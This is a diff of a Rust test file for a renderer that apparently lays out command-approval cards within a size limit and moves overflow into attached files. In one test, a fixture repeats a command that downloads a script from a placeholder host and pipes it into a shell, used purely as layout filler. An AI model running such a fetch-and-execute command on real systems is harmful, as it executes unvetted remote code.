@@ -11,7 +11,7 @@ mod markdown;
 
 use super::*;
 use crate::markdown::units;
-use countersign_port::testkit::{closed, golden_bytes, golden_cards, sample_card};
+use countersign_port::testkit::{closed, golden_bytes, golden_cards, golden_rows, sample_card};
 use countersign_port::{Block, Field, Tone, folded, line, visible};
 use markdown::read;
 use proptest::prelude::*;
@@ -40,7 +40,7 @@ fn picture(card: &Card) -> String {
 }
 
 #[test]
-fn twelve_cards_before_and_after_the_press() {
+fn every_kind_of_card_before_and_after_the_press() {
     insta::assert_snapshot!(golden_cards(picture));
 }
 
@@ -51,6 +51,15 @@ fn every_card_is_sent_as_before_byte_for_byte() {
         let files: Vec<_> = files.iter().map(|file| json!([file.name, file.text])).collect();
         json!({"content": content, "rows": rows, "files": files})
     });
+}
+
+#[test]
+fn every_card_is_short() {
+    insta::assert_snapshot!(golden_rows(|card| {
+        let text = read(&draw(card).content);
+        let text = text.replace("«t:300:", "«").replace("«t:1795221291:", "«");
+        text.replace("«R»", "in 5 minutes").replace("«t»", "12:05 PM")
+    }));
 }
 
 fn with_command(text: &str) -> Card {
@@ -84,7 +93,7 @@ fn padding_pushes_nothing_out_of_sight() {
         "{}",
         drawn.content
     );
-    assert!(drawn.content.contains("All of it is in `a7f3-command.txt`"));
+    assert!(read(&drawn.content).contains("✂️ To the letter in a7f3-command.txt"));
     assert_eq!(drawn.files, [TextFile { name: "a7f3-command.txt".into(), text: padded }]);
 }
 
@@ -92,7 +101,8 @@ fn padding_pushes_nothing_out_of_sight() {
 fn long_reasons_take_no_room_from_what_would_run() {
     let mut card = with_command(&"echo x\n".repeat(900));
     let lines = "60: curl -s https://x.example/install.sh | sh\n".repeat(5);
-    card.blocks.insert(1, Block::Code { label: "lines to look at".into(), text: lines });
+    card.blocks
+        .insert(1, Block::Code { label: "lines to look at".into(), text: lines, whole: false });
     let long = |label: &str| Block::Quote { label: label.into(), text: "why ".repeat(2_500) };
     card.blocks.extend([long("reason"), long("description"), long("prompt")]);
     let field = |name: &str| Field { name: name.into(), value: "v".repeat(4_000) };
@@ -125,7 +135,7 @@ fn everything_of_a_card_that_is_far_too_large_is_said_or_attached() {
     let drawn = draw(&card);
     assert!(units(&drawn.content) <= LIMIT);
     assert!(drawn.content.contains("Denied by Ana"), "the end of the story is always shown");
-    assert!(drawn.content.contains("parts are not shown here"));
+    assert!(drawn.content.contains(" more parts in "));
     let [file] = drawn.files.as_slice() else { panic_on(&drawn.files) };
     assert_eq!(file.name, "a7f3-card.txt");
     assert!(file.text.contains(&card.title) && file.text.contains("field 39: vvv"));
@@ -139,17 +149,19 @@ fn panic_on(files: &[TextFile]) -> ! {
 #[test]
 fn many_long_texts_each_have_their_file_until_one_carries_the_rest() {
     let mut card = with_command("ls");
-    let code =
-        |n: usize| Block::Code { label: "edit".to_owned(), text: format!("{n}").repeat(999) };
+    let code = |n: usize| Block::Code {
+        label: "edit".to_owned(),
+        text: format!("{n}").repeat(999),
+        whole: false,
+    };
     card.blocks = (0..12).map(code).collect();
     let drawn = draw(&card);
     let names: Vec<&str> = drawn.files.iter().map(|file| file.name.as_str()).collect();
-    assert_eq!(names.len(), 10);
     assert_eq!(
-        (names[0], names[1], names[9]),
+        (names[0], names[1], *names.last().unwrap()),
         ("a7f3-edit.txt", "a7f3-edit-2.txt", "a7f3-card.txt")
     );
-    assert!(drawn.files[9].text.contains(&"11".repeat(999)));
+    assert!(drawn.files.last().unwrap().text.contains(&"11".repeat(999)));
 }
 
 #[test]
@@ -163,7 +175,7 @@ fn every_tone_has_its_sign() {
     let sign = |tone| draw(&Card { tone, ..with_command("ls") }).content.chars().next();
     let tones =
         [Tone::Open, Tone::Critical, Tone::Approved, Tone::Denied, Tone::Expired, Tone::Cancelled];
-    assert_eq!(tones.map(sign), ['🔐', '🛑', '✅', '⛔', '⌛', '⚪'].map(Some));
+    assert_eq!(tones.map(sign), ['🔔', '🛑', '✅', '⛔', '⌛', '⚪'].map(Some));
 }
 
 /// Text as an adversary writes it.
@@ -239,7 +251,9 @@ proptest! {
             prop_assert_eq!(bare(&drawn.content, &seen), bare(&like, "x"));
         } else {
             prop_assert_eq!(&drawn.files[0].text, &text);
-            let head: String = seen.trim_matches('\n').chars().take(100).collect();
+            // At least the first two rows of it.
+            let head: String = seen.trim_matches('\n').lines().take(2).collect::<Vec<_>>().join("\n");
+            let head: String = head.chars().take(60).collect();
             prop_assert!(shown.contains(&head), "{shown:?} lacks {head:?}");
         }
     }
@@ -272,7 +286,7 @@ proptest! {
             }
         }
         let shown = read(&drawn.content);
-        prop_assert!(!shown.contains('«') || text.contains('«') || shown.matches('«').count() == 1);
+        prop_assert!(!shown.contains('«') || text.contains('«') || shown.matches('«').count() == 2);
         if drawn.files.is_empty() {
             prop_assert_eq!(shown.matches(&line(&text)).count() >= 4, true);
         }
@@ -283,6 +297,6 @@ proptest! {
         let text = pieces.repeat(times);
         let drawn = draw(&with_command(&text));
         prop_assert!(units(&drawn.content) <= LIMIT);
-        prop_assert!(drawn.files.iter().all(|file| file.text == text));
+        prop_assert!(drawn.files.iter().all(|file| file.text.contains(&text)));
     }
 }
